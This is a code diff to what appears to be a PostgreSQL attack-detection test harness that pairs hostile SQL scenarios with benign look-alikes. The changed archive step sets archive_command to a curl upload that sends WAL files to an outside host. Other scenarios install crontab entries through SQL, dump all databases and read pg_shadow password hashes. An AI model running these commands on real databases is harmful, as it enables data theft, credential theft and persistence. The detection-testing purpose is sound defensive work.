@@ -15,7 +15,8 @@ def program(command):
 
 def archive(host, rng):
     """What copies the log to the archive does something else as well."""
-    sql("ALTER SYSTEM SET archive_command = 'curl -s -m 2 -T %p " + WEB + "/wal'", "SELECT pg_reload_conf()", "SELECT pg_switch_wal()", "SELECT pg_sleep(1)",
+    sql("ALTER SYSTEM SET archive_command = 'curl -s -m 2 -T %p " + WEB + "/wal'", "SELECT pg_reload_conf()", "CREATE TABLE moved AS SELECT 1", "SELECT pg_switch_wal()",
+        "SELECT pg_sleep(2)", "DROP TABLE moved",
         "ALTER SYSTEM RESET archive_command", "SELECT pg_reload_conf()")(host, rng)
 
 
@@ -40,4 +41,8 @@ define(
     ("crontab by SQL", "", program("echo '* * * * * true' | crontab -"), operator("echo '# none' | sudo crontab -u nobody -; sudo crontab -u nobody -r")),
     ("dump by SQL", "", program("pg_dumpall >/tmp/.all; rm /tmp/.all"), unit("pg-dump.service")),
     ("password hashes by SQL", "a query, as any other", sql("SELECT * FROM pg_shadow"), sql("SELECT * FROM pg_tables")),
+    natures={
+        "program by SQL with cp": "the program that the archive is made with; what it copies is no behaviour",
+        "password hashes by SQL": "a query like any other",
+    },
 )
